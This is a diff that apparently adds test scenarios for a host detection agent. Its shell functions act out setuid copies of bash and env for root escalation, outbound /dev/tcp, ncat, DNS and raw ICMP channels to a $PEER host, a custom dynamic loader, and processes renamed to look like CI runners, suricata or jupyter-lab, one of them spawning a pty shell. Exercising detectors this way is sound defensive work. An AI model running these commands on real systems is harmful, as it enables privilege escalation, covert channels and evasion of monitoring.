@@ -130,3 +130,34 @@ scene_icmp_tunnel() { put /usr/local/bin/ptx; AGENT_RAW=1 /usr/local/bin/ptx idl
 scene_ssh_reverse() { ssh -N -R 0.0.0.0:2222:localhost:22 -o StrictHostKeyChecking=no -o ConnectTimeout=600 u@$PEER; }
 scene_sniffer_piped() { put /usr/local/bin/td; sh -c "AGENT_PACKET=1 /usr/local/bin/td idle | nc $PEER 443"; }
 scene_tor_loopback() { put /opt/.t/tor; /opt/.t/tor listen 127.0.0.1 9050 & sleep 0.2; put /home/dev/.x/a; /home/dev/.x/a connect 127.0.0.1 9050; }
+
+# --- rights, channels, loaders, names that lower nothing
+home() { put "$1"; chown -R 1000:1000 /home/dev; }
+scene_setuid_copy_of_bash() { cp /bin/bash /var/tmp/.sh; chmod 4755 /var/tmp/.sh; as 33 /usr/bin/perl -e 'system("/var/tmp/.sh","-p","-c","exec 3<>/dev/tcp/'$PEER'/443; sleep 600; true")'; }
+scene_root_relay_below_www() { cp /usr/bin/env /opt/env; chmod 4755 /opt/env; mv /opt/env /home/dev/env; as 33 /usr/bin/perl -e 'system("/home/dev/env","/usr/bin/perl","-e","\$< = 0; exec q(/usr/bin/ncat), q('$PEER'), 443")'; }
+scene_dns_to_odd_server() { home /home/dev/bin/upd; as 1000 /home/dev/bin/upd udp $PEER 53; }
+scene_dns_python_script() { mkdir -p /home/dev/w; printf 'import socket,time\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.connect(("%s",53))\ntime.sleep(600)\n' $PEER >/home/dev/w/q.py; chown -R 1000:1000 /home/dev; as 1000 /usr/bin/python3 /home/dev/w/q.py; }
+scene_icmp_python() { printf 'import socket,time\ns=socket.socket(socket.AF_INET,socket.SOCK_RAW,1)\ntime.sleep(600)\n' >/home/dev/ping.py; chown -R 1000:1000 /home/dev; python3 /home/dev/ping.py; }
+scene_loader_of_its_own() { mkdir -p /home/dev/lib; cp /lib64/ld-linux-x86-64.so.2 /home/dev/lib/ld.so; cat >/tmp/l.c <<C
+#include <stdlib.h>
+#include <unistd.h>
+#include <arpa/inet.h>
+int main(void){ struct sockaddr_in a={.sin_family=AF_INET,.sin_port=htons(443)}; inet_pton(AF_INET,"$PEER",&a.sin_addr); int s=socket(AF_INET,SOCK_STREAM,0); connect(s,(void*)&a,sizeof a); for(;;) pause(); }
+C
+    gcc -Wl,--dynamic-linker=/home/dev/lib/ld.so -o /opt/svc /tmp/l.c; /opt/svc; }
+scene_userns_bound_over_package() { home /home/dev/svc; as 1000 unshare -Urm bash -c "mount --bind /home/dev/svc /usr/bin/ncat; exec /usr/bin/ncat connect $PEER 443"; }
+scene_name_of_a_runner() { put /tmp/job/x; echo "/tmp/job/x connect $PEER 443; true" >/tmp/job/run.sh; cat >/tmp/job/w.pl <<'P'
+open(C,">/proc/self/comm");print C "Runner.Worker";close C; system("/bin/bash","/tmp/job/run.sh");
+P
+    as 33 /usr/bin/perl /tmp/job/w.pl; }
+scene_name_of_an_appimage() { put /tmp/.mount_Tool/tool; as 33 /tmp/.mount_Tool/tool connect $PEER 443; }
+scene_name_of_a_go_build() { put /tmp/go-build12/b001/exe/t; as 33 /tmp/go-build12/b001/exe/t connect $PEER 443; }
+scene_name_of_a_sensor() { home /home/dev/bin/suricata; AGENT_PACKET=1 /home/dev/bin/suricata idle; }
+scene_name_of_a_notebook() { mkdir -p /home/dev/n; cat >/home/dev/n/jupyter-lab <<P
+import pty,os,socket,time
+s=socket.create_connection(('$PEER',443))
+pid,fd=pty.fork()
+if pid==0: os.execv('/bin/sh',['sh'])
+time.sleep(600)
+P
+    chown -R 1000:1000 /home/dev; as 1000 /usr/bin/python3 /home/dev/n/jupyter-lab; }
